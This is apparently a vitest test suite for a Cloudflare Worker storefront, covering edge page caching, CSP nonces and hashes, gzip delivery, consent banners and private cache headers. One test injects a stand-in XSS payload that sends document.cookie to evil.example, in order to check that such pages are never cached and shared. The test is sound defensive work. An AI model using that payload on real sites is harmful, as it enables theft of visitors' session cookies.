import { createExecutionContext, env, waitOnExecutionContext } from "cloudflare:test";
import { describe, expect, it, vi } from "vitest";
import { createWorker, type PageRenderer } from "../../app";
import { bumpProductVersion } from "../../services/catalog/product-version";
import { bumpCatalogVersion } from "../../services/catalog/version";
import { edgeCache } from "../../services/page-cache/edge-cache";
import { guestCookies } from "../../test/harness";

/** What the catalogue says right now, as far as the stand-in renderer is concerned. */
let edition = "first";

/** Stands in for React Router: prints what the page would embed from the request context. */
const renderer: PageRenderer = async (_request, _env, ctx) =>
  new Response(
    `<!doctype html><html><body><p id="edition">edition=${edition}</p><p id="who">uuid=${ctx.session.uuid};country=${ctx.country};consent=${ctx.consent ? "yes" : "no"};ask=${ctx.askConsent};shared=${Boolean(ctx.shared)}</p>` +
      `<script nonce="${ctx.nonce}">window.x=1</script></body></html>`,
    { headers: { "Content-Type": "text/html; charset=utf-8" } },
  );

const worker = createWorker(renderer);

async function get(path: string, headers: Record<string, string> = {}) {
  const execution = createExecutionContext();
  const response = await worker.fetch(new Request(`http://de.localhost${path}`, { headers }), env, execution);
  const body = await response.text();
  await waitOnExecutionContext(execution);
  const csp = response.headers.get("Content-Security-Policy") ?? "";
  return { response, body, cspNonce: /'nonce-([^']+)'/.exec(csp)?.[1], bodyNonce: /nonce="([^"]+)"/.exec(body)?.[1] };
}

const visitor =
  (await guestCookies("0b7a5a4e-1d7e-4b7c-9f52-3c5d8b1a2e11")) +
  "; cc_cookie=" +
  encodeURIComponent('{"categories":["necessary","analytics"],"revision":1}');

/** After a catalogue change, the first answer for `path`: rendered without the visitor in it. */
async function firstShared(path: string) {
  await bumpCatalogVersion(env.KV);
  const first = await get(path, { Cookie: visitor, "CF-IPCountry": "FR" });
  expect(first.response.headers.get("X-Page-Cache")).toBe("MISS");
  expect(first.body).toContain("uuid=;country=DE;consent=no;ask=false;shared=true");
  return first;
}

describe("methods a page does not take", () => {
  it("answers 405 with Allow, without rendering", async () => {
    const render = vi.fn(renderer);
    const strict = createWorker(render);
    for (const method of ["POST", "DELETE", "PUT", "PATCH", "OPTIONS", "PROPFIND"]) {
      const execution = createExecutionContext();
      const response = await strict.fetch(
        new Request("http://de.localhost/cart", { method, headers: { Origin: "http://de.localhost" } }),
        env,
        execution,
      );
      await waitOnExecutionContext(execution);
      expect(response.status, method).toBe(405);
      expect(response.headers.get("Allow")).toBe("GET, HEAD");
      expect(await response.text()).toBe("");
    }
    expect(render).not.toHaveBeenCalled();
  });
});

describe("kept pages for clients that accept gzip", () => {
  /** As the edge (and Miniflare) hand a request over: Accept-Encoding rewritten, the client's own in `cf`. */
  async function fromClient(path: string, clientAcceptEncoding: string, cookie = visitor) {
    const execution = createExecutionContext();
    const headers = { "Accept-Encoding": "br, gzip", "CF-IPCountry": "US", ...(cookie ? { Cookie: cookie } : {}) };
    const request = new Request(`http://de.localhost${path}`, { headers, cf: { clientAcceptEncoding } });
    const response = await worker.fetch(request, env, execution);
    await waitOnExecutionContext(execution);
    return response;
  }
  const scriptSrc = (response: Response) => /script-src [^;]*/.exec(response.headers.get("Content-Security-Policy") ?? "")?.[0];
  const unpacked = (response: Response) => new Response(response.body!.pipeThrough(new DecompressionStream("gzip"))).text();

  it("answers the copy gzipped once when it was kept, the same page once unpacked", async () => {
    await firstShared("/category-rings?page=3");
    // From the US: not asked for consent, like the copy firstShared kept.
    const plain = await get("/category-rings?page=3", { Cookie: visitor, "CF-IPCountry": "US" });
    expect(plain.response.headers.get("X-Page-Cache")).toBe("HIT");
    expect(plain.response.headers.get("Content-Encoding")).toBeNull();
    expect(plain.response.headers.get("Vary")).toBe("Accept-Encoding");

    const packed = await fromClient("/category-rings?page=3", "gzip, deflate, br");
    expect(packed.headers.get("X-Page-Cache")).toBe("HIT");
    expect(packed.headers.get("Content-Encoding")).toBe("gzip");
    expect(packed.headers.get("Vary")).toBe("Accept-Encoding");
    expect(scriptSrc(packed)).toBe(scriptSrc(plain.response));
    expect(await unpacked(packed)).toBe(plain.body);
  });

  it("goes by what the client sent, not by the header the runtime rewrote", async () => {
    await firstShared("/category-rings?page=4");
    for (const sent of ["", "identity", "br", "gzip;q=0, br"]) {
      const response = await fromClient("/category-rings?page=4", sent);
      expect(response.headers.get("X-Page-Cache"), sent).toBe("HIT");
      expect(response.headers.get("Content-Encoding"), sent).toBeNull();
      expect(await response.text(), sent).toContain("edition=");
    }
  });

  it("gives a new visitor the gzipped copy with the cookies that make them a visitor", async () => {
    await firstShared("/category-rings?page=5");
    const response = await fromClient("/category-rings?page=5", "gzip", "");
    expect(response.headers.get("Content-Encoding")).toBe("gzip");
    expect(
      response.headers
        .getSetCookie()
        .map((line) => line.split("=")[0])
        .sort(),
    ).toEqual(["he-token", "he-uuid"]);
    expect(await unpacked(response)).toContain("uuid=;country=DE");
  });
});

describe("edge cache for listing, product and search pages", () => {
  it("renders a shareable page without the visitor, then serves it to the next one with its scripts allowed by hash", async () => {
    const first = await firstShared("/category-rings?page=2");
    expect(first.bodyNonce).toBe(first.cspNonce);

    const second = await get("/category-rings?page=2", { "CF-IPCountry": "US" });
    expect(second.response.headers.get("X-Page-Cache")).toBe("HIT");
    expect(second.body).toContain("uuid=;country=DE;consent=no;ask=false;shared=true");
    // The same bytes for everybody: no nonce (it would be shared), the inline script by hash.
    expect(second.bodyNonce).toBeUndefined();
    expect(second.cspNonce).toBeUndefined();
    const script = /<script>([^<]*)<\/script>/.exec(second.body)![1];
    const digest = new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(script)));
    expect(second.response.headers.get("Content-Security-Policy")).toContain(`script-src 'self' 'sha256-${btoa(String.fromCharCode(...digest))}';`);
    // The new visitor still gets their own uuid and token cookies, never a stored one.
    const cookies = second.response.headers.getSetCookie().join("\n");
    expect(cookies).toMatch(/he-uuid=[0-9a-f-]{36}/);
    expect(cookies).toMatch(/he-token=/);
    expect(second.response.headers.get("Cache-Control")).toBe("private, no-cache");
  });

  it("never shares a page holding an inline script the app did not emit", async () => {
    edition = `<script>fetch("//evil.example/?" + document.cookie)</script>`;
    try {
      await bumpCatalogVersion(env.KV);
      for (let i = 0; i < 2; i++) {
        const { response, cspNonce } = await get("/category-rings?page=7");
        expect(response.headers.get("X-Page-Cache")).toBe("MISS");
        // Its own render answers with this request's nonce, which the injected script lacks.
        expect(cspNonce).toBeDefined();
        expect(response.headers.get("Content-Security-Policy")).not.toContain("sha256-");
      }
    } finally {
      edition = "first";
    }
  });

  it("keys by URL, language and currency", async () => {
    await bumpCatalogVersion(env.KV);
    expect((await get("/product-ring-p1.html")).response.headers.get("X-Page-Cache")).toBe("MISS");
    expect((await get("/product-ring-p1.html")).response.headers.get("X-Page-Cache")).toBe("HIT");
    expect((await get("/product-ring-p1.html?x=1")).response.headers.get("X-Page-Cache")).toBe("MISS");
    expect((await get("/product-ring-p1.html", { Cookie: "he-currency=USD" })).response.headers.get("X-Page-Cache")).toBe("MISS");
    expect((await get("/product-ring-p1.html", { Cookie: "he-lang=fr" })).response.headers.get("X-Page-Cache")).toBe("MISS");
  });

  it("forgets every page when the catalogue changes", async () => {
    await bumpCatalogVersion(env.KV);
    await get("/search?q=gold");
    expect((await get("/search?q=gold")).response.headers.get("X-Page-Cache")).toBe("HIT");
    await bumpCatalogVersion(env.KV);
    expect((await get("/search?q=gold")).response.headers.get("X-Page-Cache")).toBe("MISS");
  });

  it("shares the home page too, with the cookie banner decided per visitor: one copy for those asked, one for the rest", async () => {
    await firstShared("/");

    const asked = await get("/", { "CF-IPCountry": "FR" });
    expect(asked.response.headers.get("X-Page-Cache")).toBe("MISS");
    expect(asked.body).toContain("ask=true;shared=true");
    const askedAgain = await get("/?utm_source=mail", { "CF-IPCountry": "IT" });
    expect(askedAgain.response.headers.get("X-Page-Cache")).toBe("HIT");
    expect(askedAgain.body).toContain("ask=true;shared=true");
    // A visitor from outside the EU is not asked: the quiet copy, stored by the first request.
    const quiet = await get("/", { "CF-IPCountry": "US" });
    expect(quiet.response.headers.get("X-Page-Cache")).toBe("HIT");
    expect(quiet.body).toContain("ask=false;shared=true");
  });

  it("renders afresh on a reload, and writes the copies again only when the page changed", async () => {
    await bumpCatalogVersion(env.KV);
    const put = vi.spyOn(edgeCache()!, "put");
    try {
      expect((await get("/collections/gold")).response.headers.get("X-Page-Cache")).toBe("MISS");
      expect(put).toHaveBeenCalledTimes(1);
      const reload = await get("/collections/gold", { "Cache-Control": "no-cache" });
      expect(reload.response.headers.get("X-Page-Cache")).toBe("MISS");
      expect(reload.bodyNonce).toBe(reload.cspNonce);
      expect(put).toHaveBeenCalledTimes(1);

      edition = "second";
      const changed = await get("/collections/gold", { "Cache-Control": "no-cache" });
      expect(changed.body).toContain("edition=second");
      expect(put).toHaveBeenCalledTimes(2);
      const after = await get("/collections/gold");
      expect(after.response.headers.get("X-Page-Cache")).toBe("HIT");
      expect(after.body).toContain("edition=second");
    } finally {
      put.mockRestore();
      edition = "first";
    }
  });

  it("shares help pages too: the same text for every visitor", async () => {
    await firstShared("/help/shipping-info");
    const next = await get("/help/shipping-info", { "CF-IPCountry": "US" });
    expect(next.response.headers.get("X-Page-Cache")).toBe("HIT");
  });

  it("renders other pages for the visitor, uncached", async () => {
    const track = await get("/trackorder?orderNumber=DE123456789012", { Cookie: visitor, "CF-IPCountry": "FR" });
    expect(track.response.headers.get("X-Page-Cache")).toBe("BYPASS");
    expect(track.body).toContain("uuid=0b7a5a4e-1d7e-4b7c-9f52-3c5d8b1a2e11;country=FR;consent=yes;ask=false;shared=false");
    expect((await get("/cart")).response.headers.get("X-Page-Cache")).toBe("BYPASS");
  });

  it("answers the visitor's own state from visitor/state, never cached", async () => {
    const execution = createExecutionContext();
    const response = await worker.fetch(
      new Request("http://de.localhost/api/visitor/state", {
        method: "POST",
        headers: { Cookie: visitor, "CF-IPCountry": "FR", "Content-Type": "application/json", Origin: "http://de.localhost" },
        body: "{}",
      }),
      env,
      execution,
    );
    const { code, data } = (await response.json()) as { code: number; data: Record<string, unknown> };
    expect(code).toBe(200);
    expect(data).toMatchObject({ uuid: "0b7a5a4e-1d7e-4b7c-9f52-3c5d8b1a2e11", country: "FR", askConsent: false, signedIn: false, freeGift: null });
    // The ship-to choices that shared pages leave out.
    expect(data.countries).toEqual(expect.arrayContaining([expect.objectContaining({ iso2: "DE", name: expect.any(String) })]));
    expect(response.headers.get("Cache-Control")).toBe("private, no-store");
  });
});

describe("personal pages", () => {
  it("answer Cache-Control: private, no-store", async () => {
    const personal = [
      "/cart",
      "/checkout",
      "/accounts",
      "/accounts/orders",
      "/accounts/orderdetail?orderNumber=HE1",
      "/accounts/addressbook",
      "/accounts/wishlist",
      "/accounts/editpassword",
      "/payback/sandbox?paymentId=x",
      "/trackorder?orderNumber=HE2601010001",
      "/trackorder",
    ];
    for (const path of personal) {
      const { response } = await get(path, { Cookie: visitor });
      expect(response.headers.get("Cache-Control"), path).toBe("private, no-store");
    }
  });

  it("leave shared and other pages cacheable as before", async () => {
    for (const path of ["/", "/category-rings", "/help/faqs", "/login"]) {
      const { response } = await get(path);
      expect(response.headers.get("Cache-Control") ?? "", path).not.toContain("no-store");
    }
  });
});

describe("a product's own version", () => {
  it("renews that product's pages and no other page", async () => {
    const product = "/product-gold-ring-777001.html";
    const landing = "/lp/product-777001.html";
    const listing = "/category-rings?product-version-test=1";
    await bumpCatalogVersion(env.KV);
    for (const path of [product, landing, listing]) {
      expect((await get(path)).response.headers.get("X-Page-Cache"), path).toBe("MISS");
      expect((await get(path)).response.headers.get("X-Page-Cache"), path).toBe("HIT");
    }
    await bumpProductVersion(env.KV, "777001");
    expect((await get(product)).response.headers.get("X-Page-Cache")).toBe("MISS");
    expect((await get(landing)).response.headers.get("X-Page-Cache")).toBe("MISS");
    expect((await get(listing)).response.headers.get("X-Page-Cache")).toBe("HIT");
    expect((await get("/product-silver-ring-777002.html")).response.headers.get("X-Page-Cache")).toBe("MISS");
    expect((await get("/product-silver-ring-777002.html")).response.headers.get("X-Page-Cache")).toBe("HIT");
  });
});
